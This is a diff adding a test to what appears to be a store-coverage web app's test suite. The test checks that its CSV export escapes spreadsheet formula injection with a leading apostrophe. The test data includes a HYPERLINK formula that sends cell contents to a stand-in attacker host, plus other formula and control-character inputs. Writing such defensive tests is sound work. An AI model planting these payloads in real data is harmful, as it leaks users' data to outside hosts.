@@ -189,3 +189,28 @@ def test_worst_first_by_default(now, app, build, cio):
     add_shift(app, stores=[good], weekdays=list(range(7)), start=time(0), end=time(0))
     codes = [i["code"] for i in cio.get(f"/api/coverage?{WEEK}").get_json()["items"]]
     assert codes == ["BAD", "GOOD"]
+
+
+FORMULAS = {
+    "EQ": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "PLUS": "+1+1",
+    "MINUS": "-5 dBm store",
+    "AT": "@SUM(1,1)",
+}
+CONTROL = {"TAB": "\t=1+1", "CR": "\r=1+1"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(now, build, login, cio):
+    """Store names and regions come from people; a cell starting like a formula gets a
+    leading apostrophe (OWASP), while numbers stay numbers."""
+    admin = login(build.user("admin"))
+    for code, text in FORMULAS.items():
+        store = {"code": code, "name": text, "region": text, "timezone": "America/Chicago"}
+        assert admin.post("/api/stores", json=store).status_code == 201
+    for code, text in CONTROL.items():  # older data: the API may refuse these characters
+        build.store(code=code, name=text, region=text)
+    r = cio.get(f"/api/coverage.csv?{WEEK}")
+    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(r.get_data(as_text=True)))}
+    for code, text in {**FORMULAS, **CONTROL}.items():
+        assert rows[code]["name"] == rows[code]["region"] == "'" + text
+        assert rows[code]["days"] == "7" and rows[code]["cadence"] == "2"
